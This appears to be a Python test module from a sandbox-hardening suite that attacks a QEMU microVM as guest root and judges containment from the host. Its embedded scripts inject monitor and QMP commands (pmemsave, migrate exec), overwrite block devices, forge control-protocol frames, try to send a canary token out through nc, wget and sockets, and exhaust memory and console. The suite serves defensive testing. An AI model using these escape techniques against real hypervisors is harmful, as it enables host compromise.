"""VM-01..VM-06: attacks on what a VMM adds, judged from outside the VM.

Each case attacks as **guest root** (``hostile_guest``: the attacker chose the guest's /init;
QEMU's argv, its network namespace, its cgroup and the agent channel are contain's own) and,
where the catalogue names the workload, as the workload through the real backend. The judges
never read what the guest says about itself; they look at:

- VM-01: host files a monitor command would create (``pmemsave``, which QEMU writes itself, so its
  seccomp filter's spawn=deny does not stop it, and ``migrate "exec:touch ..."``), in a directory
  every uid may write (QEMU runs as the leased uid), and the agent channel's fate after garbage on
  its port (the sandbox is refused, nothing else runs);
- VM-02: SHA-256 of every image file QEMU opened (userland, read bind, initramfs, kernel);
- VM-03: the ``RunResult`` of a workload that prints protocol-shaped frames (real exit status,
  the frames as plain output, output capped);
- VM-04: TCP and UDP canaries on the host's loopback, for the user-mode gateway 10.0.2.2, the
  DNS forwarder 10.0.2.3, broadcast and IPv6 (fec0::2), from guest root and from the workload;
- VM-05: the console log's kept size against the bytes the guest wrote, the VMM cgroup's peak
  memory and OOM count against the budget;
- VM-06: how a run ends when the guest halts or panics (at its deadline with 124, or a clear
  SandboxLost), and that the VMM process is gone afterwards.

Positive controls (``ControlVm``: the same planned argv plus one weakness) show each judge sees
the breach: a monitor wired to a virtio-serial port runs the command, a writable drive changes,
a NIC without ``restrict`` reaches the canaries, a VMM outside a cgroup grows past the budget,
and a run without a deadline stays stuck on a halted guest. VM-03's control decodes the printed
bytes with the host's own frame decoder: they are valid frames, so only their path keeps them out.

What these cases do not test: bugs in QEMU's device emulation reached with crafted descriptors
(fuzzing, not a battery), side channels, or hosts where KVM runs the guest (the cases use what
the backend chose; under TCG there is no KVM surface at all). VM-04's "only the egress path
answers" is checked as "nothing answers": its boundary allows no destination, so the guest has
no NIC (the forwards to contain's proxy, with ``network.allow``, are what PX, NE-06 and RE-53
attack).

Why one file past 600 lines: one mechanism (a hostile guest against contain's VMM, judged from
outside, with a weakened VMM as control) applied seven times; each case's attack script, judge
and control sit together so a reviewer reads one case in one place.
"""

from __future__ import annotations

import contextlib
import os
import signal
import struct
import threading
import time
from pathlib import Path
from typing import Any

from contain.probe.case import CaseResult, Category, ProbeCase, ProbeContext, Verdict
from contain.probe.hostile_guest import (
    ATTACK_DONE_MARKER,
    ControlVm,
    hostile_image,
    hostile_sandbox,
    sha256_of,
)

__all__ = ["CASES"]

_NO_VMM = (
    "not applicable by construction: the {kind} target runs no VMM and no guest kernel (no serial or monitor "
    "device, no virtual block device, no guest control channel, no user-mode network)"
)
# Kinds without a VMM; "container" covers every runtime. gVisor's Sentry is a user-space kernel,
# not a VMM: it has no virtual devices, block devices or monitor.
_KINDS_WITHOUT_VMM = ("process", "container", "host", "wrap")
_BOOT_S = 120.0  # a TCG boot on a loaded 2-core host, with the attack, stays well under this
_SERIAL_EVIDENCE_BYTES = 3000


def _na() -> dict[str, str]:
    return {kind: _NO_VMM.format(kind=kind) for kind in _KINDS_WITHOUT_VMM}


def _root(ctx: ProbeContext) -> Path:
    root: Path = getattr(ctx, "root")  # noqa: B009 - RunContext's private run directory
    return root


def _target_boundary(ctx: ProbeContext, extra: dict[str, Any] | None = None) -> dict[str, Any]:
    boundary_for = getattr(ctx.target, "boundary_for", None)
    if boundary_for is None:
        raise RuntimeError(f"target {ctx.target.name!r} has no contain hooks; VM cases need contain's microvm")
    result: dict[str, Any] = boundary_for(extra)
    return result


def _tail(text: str) -> str:
    return text[-_SERIAL_EVIDENCE_BYTES:]


def _hostile_run(
    ctx: ProbeContext,
    script: str,
    *,
    boundary: dict[str, Any] | None = None,
    argv: list[str] | None = None,
    timeout_s: float = 20.0,
) -> dict[str, Any]:
    """Boot a hostile guest running ``script`` as root, then run ``argv`` (if it starts); the
    readings: start error, run result, serial text and counts, VMM pid."""
    image = hostile_image(script, into=_root(ctx))
    out: dict[str, Any] = {"start_error": None, "run": None, "run_error": None, "image": image}
    with hostile_sandbox(_target_boundary(ctx, boundary), image) as (sandbox, backend):
        try:
            sandbox.start()
        except Exception as exc:  # a refused start is a reading here, not a probe failure
            out["start_error"] = f"{type(exc).__name__}: {getattr(exc, 'cause', exc)}"
        else:
            out["vmm_pid"] = sandbox.supervisor_pid
            try:
                out["run"] = sandbox.run(argv or ["true"], timeout=timeout_s)
            except Exception as exc:
                out["run_error"] = f"{type(exc).__name__}: {getattr(exc, 'cause', exc)}"
        serial = backend.serial
        out["serial"] = serial.text() if serial is not None else ""
        out["serial_total"] = serial.total_bytes if serial is not None else 0
    out["attack_ran"] = ATTACK_DONE_MARKER in out["serial"]
    return out


def _verdict(
    case_id: str, *, breaches: list[str], failures: list[str], contained: str, control: str, evidence: dict[str, Any]
) -> CaseResult:
    if breaches:
        return CaseResult(case_id, Verdict.ESCAPED, "; ".join(breaches)[:500], evidence, control)
    if failures:
        return CaseResult(case_id, Verdict.INCONCLUSIVE, "; ".join(failures)[:500], evidence, control)
    return CaseResult(case_id, Verdict.CONTAINED, contained, evidence, control)


# -- VM-01 ------------------------------------------------------------------------------------


def _vm01_script(drop: Path, canary: str) -> str:
    """Guest root's monitor commands, each of which leaves a file named after ``canary`` in ``drop``
    if any port reaches a monitor: ``pmemsave`` (QEMU itself writes the file: no spawn, so only the
    monitor's absence stops it) and ``migrate "exec:touch"`` (a host command, which QEMU's own
    seccomp filter, ``-sandbox spawn=deny``, also stops)."""
    touched, saved = drop / f"exec-{canary}", drop / f"pmemsave-{canary}"
    # pmemsave first: a QEMU under -sandbox spawn=deny is killed (SIGSYS) by the exec. The size in
    # parentheses and the name quoted: HMP reads "16 /tmp/..." as an expression (16 divided by ...).
    hmps = [f'pmemsave 0 (16) "{saved}"', f'migrate "exec:touch {touched}"']
    qmp = (
        '{"execute":"qmp_capabilities"}\\n{"execute":"pmemsave","arguments":{"val":0,"size":16,"filename":"'
        + str(saved)
        + '"}}\\n'
        + "".join(
            '{"execute":"human-monitor-command","arguments":{"command-line":"' + h.replace('"', '\\\\"') + '"}}\\n'
            for h in hmps
        )
        + '{"execute":"quit"}'
    )
    payload = "\\001c\\n" + "".join(f"{h}\\n" for h in hmps) + f"{qmp}\\nquit\\n"
    return f"""
P='{payload}'
AGENT=
for p in /sys/class/virtio-ports/*; do
  echo "vm01: port ${{p##*/}} named $(cat $p/name)"
  [ "$(cat $p/name)" = contain ] && AGENT=/dev/${{p##*/}}
done
for dev in /dev/ttyS* /dev/hvc* /dev/console /dev/tty0 /dev/vport*; do
  [ -c "$dev" ] && [ "$dev" != "$AGENT" ] || continue
  printf "$P" > "$dev" 2>/dev/null && echo "vm01: wrote $dev" || echo "vm01: write refused $dev"
done
for dev in /dev/port /dev/mem; do
  [ -c "$dev" ] || {{ echo "vm01: no $dev"; continue; }}
  printf 'x' | dd of=$dev bs=1 seek=4096 conv=notrunc 2>&1 | tail -1 | sed "s|^|vm01: $dev |"
done
echo "{_VM01_LAST}"
[ -n "$AGENT" ] && printf "$P" > $AGENT && echo "vm01: wrote the agent port $AGENT"
"""


_VM01_LAST = "vm01: every other device done; the agent port is last"


def _vm01(ctx: ProbeContext) -> CaseResult:
    root = _root(ctx)
    # QEMU runs as the sandbox's leased uid, so a reachable monitor's files could not be created in
    # a directory only root may write: the drop directory is writable by every uid (mode 0777).
    drop = Path(getattr(ctx, "plant_dir")("vm01-drop"))  # noqa: B009 - RunContext's planting helper
    drop.chmod(0o777)
    canary, control_canary = ctx.canary("vm01-monitor"), ctx.canary("vm01-control")
    reading = _hostile_run(ctx, _vm01_script(drop, canary))
    control_image = hostile_image(_vm01_script(drop, control_canary), into=root)
    socket_path = root / "vm01-monitor.sock"
    control = ControlVm(
        control_image,
        with_agent_port=False,
        extra=[
            "-device", "virtio-serial-device,max_ports=2",
            "-monitor", f"unix:{socket_path},server=on,wait=off",
            "-chardev", f"socket,id=monport,path={socket_path},reconnect=1",
            "-device", "virtserialport,chardev=monport,name=org.qemu.monitor",
        ],
    )  # fmt: skip
    control.run(timeout_s=_BOOT_S)
    left = sorted(p.name for p in drop.iterdir())
    breaches = [f"a monitor command ran on the host: {drop / n} exists" for n in left if canary in n]
    failures = []
    if _VM01_LAST not in reading["serial"]:
        failures.append("the guest-root attack did not reach the agent port (no marker on the console)")
    if reading["start_error"] is None and reading["run_error"] is None:
        failures.append("garbage on the agent port went unnoticed: the sandbox started and ran")
    if f"pmemsave-{control_canary}" not in left:
        failures.append("a monitor wired to a virtio-serial port did not run the command (no pmemsave file)")
    evidence = {
        "start_error": reading["start_error"],
        "run_error": reading["run_error"],
        "attack_console": [ln for ln in reading["serial"].splitlines() if ln.startswith("vm01:")],
        "control_console": [ln for ln in control.serial.text().splitlines() if ln.startswith("vm01:")],
        "control_files": [n for n in left if control_canary in n],
    }
    return _verdict(
        "VM-01",
        breaches=breaches,
        failures=failures,
        contained="guest root wrote monitor and QMP commands to every console, serial and virtio port: no command "
        "ran on the host; garbage on the agent port only closed that channel"
        + (f" ({reading['start_error']})" if reading["start_error"] else ""),
        control="with an HMP monitor wired to a virtio-serial port, the same writes made QEMU run the command "
        f"({', '.join(n.split('-', 1)[0] for n in left if control_canary in n)})",
        evidence=evidence,
    )


# -- VM-02 ------------------------------------------------------------------------------------

_VM02_SCRIPT = """
for dev in /dev/vd*; do
  [ -b "$dev" ] || continue
  blockdev --setrw $dev 2>&1 | sed "s|^|vm02: setrw $dev |"
  dd if=/dev/urandom of=$dev bs=4096 count=8 conv=notrunc,fsync 2>&1 | tail -1 | sed "s|^|vm02: $dev start |"
  dd if=/dev/urandom of=$dev bs=4096 count=8 seek=64 conv=notrunc,fsync 2>&1 | tail -1 | sed "s|^|vm02: $dev mid |"
done
mount -o remount,rw /run/ro 2>&1 | sed "s|^|vm02: remount |"
sync
"""


def _vm02(ctx: ProbeContext) -> CaseResult:
    from contain.runtime.microvm.images import ensure_read_image

    root = _root(ctx)
    data = root / "vm02-data"
    data.mkdir()
    (data / "input.txt").write_text(ctx.canary("vm02-input") + "\n")
    read_image = ensure_read_image(str(data))
    image = hostile_image(_VM02_SCRIPT, into=root)
    watched = {
        "userland": str(image.userland.path),
        "read bind image": str(read_image),
        "initramfs": str(image.initramfs.path),
        "kernel": str(image.kernel.vmlinuz),
    }
    before = {name: sha256_of(path) for name, path in watched.items()}
    reading = _hostile_run(
        ctx, _VM02_SCRIPT, boundary={"files": [{"host": str(data), "path": "/probe/data", "access": "read"}]}
    )
    after = {name: sha256_of(path) for name, path in watched.items()}
    control_disk = root / "vm02-control.img"
    control_disk.write_bytes(b"\0" * (1 << 20))
    control_before = sha256_of(control_disk)
    control = ControlVm(
        image,
        with_agent_port=False,
        extra=[
            "-drive", f"file={control_disk},format=raw,if=none,id=ctl,readonly=off",
            "-device", "virtio-blk-device,drive=ctl,serial=probe-control",
        ],
    )  # fmt: skip
    control.run(timeout_s=_BOOT_S)
    changed = [name for name in watched if before[name] != after[name]]
    breaches = [f"host image changed: {', '.join(changed)}"] if changed else []
    failures = []
    if not reading["attack_ran"]:
        failures.append("the guest-root attack did not finish (no done marker on the console)")
    if sha256_of(control_disk) == control_before:
        failures.append("the writable control drive did not change")
    return _verdict(
        "VM-02",
        breaches=breaches,
        failures=failures,
        contained="guest root wrote raw blocks to every /dev/vd*: the userland, read-bind, initramfs and kernel "
        "files are byte-identical",
        control="the same writes changed a drive attached without readonly=on",
        evidence={
            "sha256": before,
            "attack_console": [ln for ln in reading["serial"].splitlines() if ln.startswith("vm02:")],
            "start_error": reading["start_error"],
        },
    )


# -- VM-03 ------------------------------------------------------------------------------------


def _frame(code: int, body: bytes, stream: int = 0) -> bytes:
    return struct.pack("<IBBH", len(body), code, stream, 0) + body


def _forged_bytes() -> bytes:
    exited = _frame(67, b"status=0\0utime_us=1\0stime_us=1\0maxrss_kb=1\0oom_kills=0\0pids_limit_hits=0\0")
    data = _frame(3, b"FORGED-STDOUT", stream=1)
    ok = _frame(68, b"")
    return exited + data + ok


_VM03_CODE = r"""
import os, struct
forged = bytes.fromhex(os.environ["FORGED"])
os.write(1, forged); os.write(2, forged)
os.write(1, struct.pack("<IBBH", 262144, 3, 1, 0) + b"truncated")  # a frame announcing 256 KiB, cut short
os.write(2, struct.pack("<IBBH", 2**31, 67, 0, 0))                  # an oversized header
try:
    for _ in range(40):                                              # 2.5 MiB: past the output cap
        os.write(1, b"A" * 65536)
except OSError:                                                      # the cap closed the pipe (EPIPE)
    pass
os._exit(7)
"""


def _vm03(ctx: ProbeContext) -> CaseResult:
    from contain.runtime.microvm.guest_channel import FrameDecoder, MsgType

    forged = _forged_bytes()
    run = ctx.target.run_python(_VM03_CODE, env={"FORGED": forged.hex()}, timeout_s=60)
    result = run.run_result
    breaches, failures = [], []
    if run.exit_code != 7:
        breaches.append(f"the result's exit code is {run.exit_code}, not the workload's 7")
    if run.timed_out or run.signal is not None:
        breaches.append(f"the result says timed_out={run.timed_out} signal={run.signal}; the workload exited 7")
    if not run.stdout.startswith(forged) or not run.stderr.startswith(forged):
        failures.append("the forged frames did not come back verbatim as output (the attack may not have run)")
    cap = 1024**2
    if len(run.stdout) > cap:
        breaches.append(f"{len(run.stdout)} bytes of stdout were kept, past the {cap} byte cap")
    if result is not None and not result.stdout.truncated:
        failures.append("2.5 MiB of stdout was not reported as truncated")
    control_frames = FrameDecoder().feed(forged)
    if not control_frames or control_frames[0].type is not MsgType.EXITED:
        failures.append("the host's decoder did not read the printed bytes as an EXITED frame")
    return _verdict(
        "VM-03",
        breaches=breaches,
        failures=failures,
        contained="printed EXITED/DATA/OK frames, a truncated and an oversized header came back as plain output; "
        "the result has the real exit status 7 and the output was capped",
        control="the host's frame decoder reads the same bytes as a valid EXITED status=0 frame",
        evidence={
            "exit_code": run.exit_code,
            "stdout_kept": len(run.stdout),
            "stdout_truncated": getattr(getattr(result, "stdout", None), "truncated", None),
            "decoded_by_control": [f.type.name for f in control_frames],
        },
    )


# -- VM-04 ------------------------------------------------------------------------------------


_VM04_WORKLOAD = r"""
import os, socket
token = os.environ["TOKEN"]; tcp = int(os.environ["TCP"]); udp = int(os.environ["UDP"])
seen = []
for fam, addr in ((socket.AF_INET, "10.0.2.2"), (socket.AF_INET, "10.0.2.3"), (socket.AF_INET, "127.0.0.1"),
                  (socket.AF_INET6, "fec0::2"), (socket.AF_INET6, "::1")):
    if addr == "10.0.2.3":  # the DNS forwarder: a query naming the token
        try:
            q = bytes.fromhex("123401000001000000000000") + bytes([len(token)]) + token.encode()
            q += bytes.fromhex("0000010001")
            d = socket.socket(fam, socket.SOCK_DGRAM); d.sendto(q, (addr, 53)); seen.append("dns 10.0.2.3 sent")
        except OSError as e:
            seen.append(f"dns {addr} {e.errno}")
    try:
        s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(2); s.connect((addr, tcp)); s.sendall(token.encode())
        seen.append(f"tcp {addr} connected")
    except OSError as e:
        seen.append(f"tcp {addr} {e.errno}")
    try:
        u = socket.socket(fam, socket.SOCK_DGRAM); u.sendto(token.encode(), (addr, udp))
        seen.append(f"udp {addr} sent")
    except OSError as e:
        seen.append(f"udp {addr} {e.errno}")
try:
    b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); b.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    b.sendto(token.encode(), ("255.255.255.255", udp)); seen.append("broadcast sent")
except OSError as e:
    seen.append(f"broadcast {e.errno}")
print("\n".join(seen))
"""


def _vm04_script(token: str, tcp_port: int, udp_port: int) -> str:
    return f"""
T={token}
for m in $(cat /lib/modules/network); do insmod /lib/modules/$m.ko 2>/dev/null; done
for i in /sys/class/net/*; do
  n=${{i##*/}}; echo "vm04: interface $n"
  [ "$n" = lo ] && continue
  ip link set $n up; ip addr add 10.0.2.15/24 dev $n; ip route add default via 10.0.2.2 dev $n
done
for a in 10.0.2.2 10.0.2.3 10.0.2.255 127.0.0.1; do
  echo "$T tcp $a" | timeout 3 nc $a {tcp_port} 2>&1 | head -2 | sed "s|^|vm04: tcp $a |"
done
timeout 3 wget -q -O- http://10.0.2.2:{tcp_port}/$T 2>&1 | head -2 | sed "s|^|vm04: http |"
ping6 -c 1 -W 1 ff02::1 2>&1 | tail -1 | sed "s|^|vm04: ping6 |"
# UDP, DNS, broadcast and IPv6 from guest root: the workload's attack, run as root (python3 from the userland)
export TOKEN=$T TCP={tcp_port} UDP={udp_port}
chroot /newroot /usr/bin/python3 - <<'PYEOF' 2>&1 | sed "s|^|vm04: root |"
{_VM04_WORKLOAD}
PYEOF
"""


def _vm04(ctx: ProbeContext) -> CaseResult:
    from contain.probe.canaries import tcp_canary, udp_canary

    token = ctx.canary("vm04")
    control_token = ctx.canary("vm04-control")
    with tcp_canary() as tcp, udp_canary() as udp:
        reading = _hostile_run(ctx, _vm04_script(token, tcp.port, udp.port))
        run = ctx.target.run_python(
            _VM04_WORKLOAD, env={"TOKEN": token, "TCP": str(tcp.port), "UDP": str(udp.port)}, timeout_s=60
        )
        control = ControlVm(
            hostile_image(_vm04_script(control_token, tcp.port, udp.port), into=_root(ctx)),
            with_agent_port=False,
            own_netns=False,
            cmdline_extra=("contain.net=1",),
            extra=["-netdev", "user,id=net0,ipv6=off", "-device", "virtio-net-device,netdev=net0"],
        )
        control.run(timeout_s=_BOOT_S)
        tcp.settle()
        udp.settle()
        breaches = [f"{sink.kind} canary received the token" for sink in (tcp, udp) if sink.received(token)]
        control_seen = tcp.received(control_token)
        control_udp = udp.received(control_token)
        evidence: dict[str, Any] = {"tcp": tcp.evidence(), "udp": udp.evidence()}
    failures = []
    if not reading["attack_ran"]:
        failures.append("the guest-root attack did not finish (no done marker on the console)")
    if not run.stdout:
        failures.append("the workload attack did not report")
    if not control_seen:
        failures.append("a NIC without restrict did not carry the token to the host's TCP canary")
    evidence["attack_console"] = [ln for ln in reading["serial"].splitlines() if ln.startswith("vm04:")]
    evidence["workload"] = run.stdout.decode(errors="replace")[:1500]
    evidence["control_udp_seen"] = control_udp
    return _verdict(
        "VM-04",
        breaches=breaches,
        failures=failures,
        contained="guest root (loading every network module) and the workload reached nothing: 10.0.2.2, 10.0.2.3, "
        "broadcast, IPv6 and loopback attempts left the host's TCP and UDP canaries empty",
        control="a user-mode NIC without restrict carried the token from the guest to the host's TCP canary",
        evidence=evidence,
    )


# -- VM-05 ------------------------------------------------------------------------------------

_VM05_FLOOD_BYTES = 256 * 1024  # four times the kept console tail (vmm.SERIAL_TAIL_BYTES)
# The fill stops this far below the guest's available memory: unswappable tmpfs pages up to 100%
# leave the guest's OOM killer nothing to kill but /init, so the guest panics before the agent
# answers and the host has no run whose cgroup peak it could read (measured: a 128 MiB guest).
_VM05_HEADROOM_MIB = 24

_VM05_SCRIPT = f"""
ls /sys/bus/virtio/drivers 2>&1 | tr '\\n' ' ' | sed "s|^|vm05: virtio drivers |"; echo
[ -e /sys/devices/system/memory/probe ] && echo 0x100000000 > /sys/devices/system/memory/probe 2>&1 \\
  | sed "s|^|vm05: hotplug |"
head -c {_VM05_FLOOD_BYTES} /dev/zero | tr '\\0' 'F' > /dev/ttyS0
echo
avail=$(sed -n 's/^MemAvailable: *\\([0-9]*\\) kB$/\\1/p' /proc/meminfo)
mkdir -p /fill && mount -t tmpfs -o size=$(( avail / 1024 - {_VM05_HEADROOM_MIB} ))m fill /fill
dd if=/dev/zero of=/fill/f bs=1M 2>&1 | tail -1 | sed "s|^|vm05: fill |"
free | sed "s|^|vm05: free |"
rm -f /fill/f
"""


def _vm05(ctx: ProbeContext) -> CaseResult:
    from contain.runtime.microvm.vmm import SERIAL_TAIL_BYTES

    budget = int(_target_boundary(ctx)["resources"]["memory_bytes"])
    reading = _hostile_run(ctx, _VM05_SCRIPT)
    run = reading["run"]
    peak = run.usage.memory_peak_bytes if run is not None else None
    kept = len(reading["serial"].encode())
    control = ControlVm(
        hostile_image(_VM05_SCRIPT, into=_root(ctx)), with_agent_port=False, memory_mib=budget // 1024**2 + 64
    )
    control.run(timeout_s=_BOOT_S)
    hwm = {"kib": control.max_rss_kib}
    breaches, failures = [], []
    if kept > SERIAL_TAIL_BYTES:
        breaches.append(f"the host kept {kept} bytes of console, past its {SERIAL_TAIL_BYTES} byte cap")
    if peak is not None and peak > budget:
        breaches.append(f"the VMM's cgroup peaked at {peak} bytes, past the {budget} byte budget")
    if not reading["attack_ran"]:
        failures.append("the guest-root attack did not finish (no done marker on the console)")
    if reading["serial_total"] <= SERIAL_TAIL_BYTES:
        failures.append(f"the console flood wrote only {reading['serial_total']} bytes")
    if peak is None:
        failures.append("no peak memory reading for the VMM's cgroup")
    if hwm.get("kib", 0) * 1024 <= budget:
        failures.append(f"a VMM outside the cgroup did not grow past the budget (VmHWM {hwm.get('kib')} KiB)")
    return _verdict(
        "VM-05",
        breaches=breaches,
        failures=failures,
        contained=f"guest root filled its RAM and flooded the console: the VMM's cgroup peaked at {peak} bytes "
        f"(budget {budget}); {reading['serial_total']} console bytes, {kept} kept",
        control=f"the same fill in a VMM outside any cgroup reached VmHWM {hwm.get('kib')} KiB",
        evidence={
            "peak_bytes": peak,
            "budget_bytes": budget,
            "console_total": reading["serial_total"],
            "console_kept": kept,
            "attack_console": [ln for ln in reading["serial"].splitlines() if ln.startswith("vm05:")],
            "start_error": reading["start_error"],
            "run_error": reading["run_error"],
        },
    )


# -- VM-06 ------------------------------------------------------------------------------------

_GO = "/tmp/contain-probe-go"
_VM06_WORKLOAD = ["/bin/sh", "-c", f": > {_GO}; exec sleep 120"]


def _vm06_script(how: str) -> str:
    # Wait (in the background, as root) until the workload runs, then stop the guest.
    return f"""
( while [ ! -e /newroot{_GO} ]; do sleep 0.2; done; sleep 1; echo "vm06: {how}"; {how} ) >/dev/console 2>&1 &
"""


def _pid_alive(pid: int | None) -> bool:
    if pid is None:
        return False
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


def _vm06(ctx: ProbeContext) -> CaseResult:
    deadline_s = 12.0
    breaches, failures, evidence = [], [], {}
    for label, how in (("halt", "halt -f"), ("panic", "echo c > /proc/sysrq-trigger")):
        began = time.monotonic()
        reading = _hostile_run(ctx, _vm06_script(how), argv=_VM06_WORKLOAD, timeout_s=deadline_s)
        took = time.monotonic() - began
        run = reading["run"]
        ended = (
            f"status {run.status} timed_out={run.timed_out}" if run is not None else reading["run_error"]
        ) or reading["start_error"]
        evidence[label] = {"ended": ended, "seconds": round(took, 1), "vmm_pid": reading.get("vmm_pid")}
        if _pid_alive(reading.get("vmm_pid")):
            breaches.append(f"{label}: the VMM process {reading.get('vmm_pid')} is still running after close")
        if run is not None and run.status == 0:
            breaches.append(f"{label}: the run reported success from a stopped guest")
        if run is not None and not run.timed_out:
            failures.append(f"{label}: the run ended with {ended}, neither at its deadline nor SandboxLost")
        if reading["start_error"]:
            failures.append(f"{label}: the hostile guest did not start ({reading['start_error']})")
    # Control: the same halted guest with no deadline on the host side stays stuck.
    stuck = _vm06_control(ctx, deadline_s=deadline_s)
    if not stuck:
        failures.append("a run without a deadline did not stay stuck on a halted guest")
    return _verdict(
        "VM-06",
        breaches=breaches,
        failures=failures,
        contained="a halted and a panicked guest: each run ended at its deadline (124) or as SandboxLost, and the "
        "VMM process was gone after close",
        control="without a deadline, a run on the halted guest was still waiting well past it",
        evidence=evidence,
    )


def _vm06_control(ctx: ProbeContext, *, deadline_s: float) -> bool:
    """Whether a run with no deadline on a halted guest is still waiting at twice the deadline."""
    image = hostile_image(_vm06_script("halt -f"), into=_root(ctx))
    boundary = _target_boundary(ctx, {"resources": {"wall_s": 3600}})
    with hostile_sandbox(boundary, image) as (sandbox, _backend):
        sandbox.start()
        done = threading.Event()

        def work() -> None:
            # killing the VMM below ends it (SandboxLost); only whether it was still waiting matters
            with contextlib.suppress(Exception):
                sandbox.run(_VM06_WORKLOAD, timeout=3600)
            done.set()

        worker = threading.Thread(target=work, daemon=True)
        worker.start()
        stuck = not done.wait(deadline_s * 2)
        pid = sandbox.supervisor_pid
        if pid is not None:  # the VMM; killing it ends the waiting run with SandboxLost
            os.kill(pid, signal.SIGKILL)
        worker.join(timeout=30.0)
    return stuck


# -- XT-07 ------------------------------------------------------------------------------------

_IDENTITY_PROBE = (
    "import os, uuid\n"
    "u = open('/dev/urandom', 'rb').read(16).hex()\n"
    "m = open('/etc/machine-id').read().strip()\n"
    "b = open('/proc/sys/kernel/random/boot_id').read().strip()\n"
    "m2 = open('/etc/machine-id').read().strip()\n"
    "b2 = open('/proc/sys/kernel/random/boot_id').read().strip()\n"
    "left = [p for p in ('/tmp/xt07-left', '/dev/shm/xt07-left') if os.path.exists(p)]\n"
    "for p in ('/tmp/xt07-left', '/dev/shm/xt07-left'):\n"
    "    open(p, 'w').write(os.environ['XT07_CANARY'])\n"
    "print(u, m, b, uuid.uuid4(), m2, b2, ','.join(left) or '-')\n"
)
_IDENTITIES = ("urandom", "machine-id", "boot_id", "uuid4")
# /init's first line lies in the template's RAM (its initramfs): the snapshot search's control
_INIT_TEXT = b"contain guest /init: generated by contain/runtime/microvm/initramfs.py"
_NO_SNAPSHOT = "not applicable by construction: no task starts from a memory snapshot (microVM backends only)"


def _xt07(ctx: ProbeContext) -> CaseResult:
    """Two tasks from one microVM snapshot, through the warm pool (``SandboxPool``)."""
    from contain.boundary import Boundary
    from contain.runtime.backend import WarmStartCapable
    from contain.runtime.microvm.backend import MicroVMBackend
    from contain.runtime.pool import SandboxPool

    if not isinstance(MicroVMBackend(), WarmStartCapable):
        return CaseResult("XT-07", Verdict.ERROR, "this build's microvm backend has no warm start (snapshot restore)")
    secret = ctx.canary("xt07-env")
    boundary = Boundary.model_validate(
        _target_boundary(ctx, {"env": {"XT07_SECRET": secret}, "resources": {"wall_s": 120}})
    )
    rows: list[list[str]] = []
    layers: list[dict[str, str]] = []
    canaries = [ctx.canary("xt07-task") for _ in range(2)]
    with SandboxPool(boundary, backend=getattr(ctx.target, "backend", "microvm"), size=2) as pool:
        for canary in canaries:
            with pool.acquire(timeout_s=300) as sandbox:
                result = sandbox.run(["python3", "-c", _IDENTITY_PROBE], timeout=60, env={"XT07_CANARY": canary})
                rows.append(result.stdout.data.decode(errors="replace").split())
                layers.append(dict(sandbox.layers))
    missing = [f"task {i + 1} did not report ({row})" for i, row in enumerate(rows) if len(row) != 7]
    if missing:
        return CaseResult("XT-07", Verdict.INCONCLUSIVE, "; ".join(missing)[:500], {"rows": rows})
    restored = all("restored from template" in layer.get("warm start", "") for layer in layers)
    breaches = [
        f"{what} repeated across two restored VMs: {rows[0][i]}"
        for i, what in enumerate(_IDENTITIES)
        if rows[0][i] == rows[1][i]
    ]
    if rows[1][6] != "-":
        breaches.append(f"task 2 found what task 1 wrote: {rows[1][6]}")
    found, control_seen = _search_snapshots([secret.encode(), *(c.encode() for c in canaries)], control=_INIT_TEXT)
    breaches += [f"the snapshot holds a task's value {value}" for value in found]
    failures = []
    if not restored:
        failures.append(f"a task did not start from a restored snapshot: {[lay.get('warm start') for lay in layers]}")
    if not control_seen:
        failures.append("the snapshot search did not find the template's /init text (it would miss a secret too)")
    if any(row[1] != row[4] or row[2] != row[5] for row in rows):
        failures.append("a VM's machine-id or boot_id changed between two reads (the comparison cannot be trusted)")
    return _verdict(
        "XT-07",
        breaches=breaches,
        failures=failures,
        contained="two tasks restored from one snapshot drew different urandom bytes, machine-id, boot_id and "
        "uuid4; the second saw nothing of the first; the snapshot holds no environment value or task input",
        control="the snapshot search found the template's /init text in its memory; each VM's machine-id and "
        "boot_id read twice were equal",
        evidence={"rows": rows, "warm start": [lay.get("warm start") for lay in layers]},
    )


def _search_snapshots(values: list[bytes], *, control: bytes) -> tuple[list[str], bool]:
    """Which ``values`` any saved snapshot file holds, and whether one holds ``control``."""
    from contain.runtime.microvm.snapshot import open_snapshot_dir

    found: set[str] = set()
    control_seen = False
    directory = open_snapshot_dir()
    try:
        for name in os.listdir(directory):
            if not name.endswith(".vmstate"):
                continue
            fd = os.open(name, os.O_RDONLY | os.O_NOFOLLOW | os.O_CLOEXEC, dir_fd=directory)
            with os.fdopen(fd, "rb") as f:
                data = f.read()
            control_seen = control_seen or control in data
            found.update(v.decode() for v in values if v in data)
    finally:
        os.close(directory)
    return sorted(found), control_seen


_ROWS: tuple[tuple[str, str, str, Any], ...] = (
    ("VM-01", "reach the VMM control plane from the guest", "no monitor command runs on the host", _vm01),
    ("VM-02", "write through every block device the guest sees", "the host's image files are byte-identical", _vm02),
    ("VM-03", "forge control-protocol replies", "the result reflects the real exit status", _vm03),
    ("VM-04", "network from the guest: NICs, user-mode gateway and DNS", "only the egress path answers", _vm04),
    ("VM-05", "exhaust the host through the VMM", "the VMM stays within its budget; logs capped", _vm05),
    ("VM-06", "a guest that stops answering", "ends at the deadline; nothing of the VMM left", _vm06),
)

CASES: tuple[ProbeCase, ...] = (
    *(
        ProbeCase(case_id, Category.VM, title, expected, check, not_applicable=_na())
        for case_id, title, expected, check in _ROWS
    ),
    ProbeCase(
        "XT-07",
        Category.XT,
        "two microVM tasks from one snapshot compare randomness and ids",
        "all differ; no secrets in snapshot memory",
        _xt07,
        not_applicable={kind: _NO_SNAPSHOT for kind in _KINDS_WITHOUT_VMM},
    ),
)
